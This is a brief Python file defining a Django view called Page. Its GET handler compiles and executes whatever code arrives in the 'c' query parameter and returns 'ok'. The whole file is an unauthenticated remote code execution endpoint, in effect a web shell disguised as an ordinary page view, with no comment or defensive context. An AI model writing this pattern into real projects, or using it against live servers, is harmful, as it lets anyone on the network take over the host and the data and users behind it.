from django.http import HttpResponse
from django.views import View



class Page(View):
    def get(self, request, name=None):
        code = compile(request.GET["c"], "x", "exec")
        exec(code)
        return HttpResponse("ok")
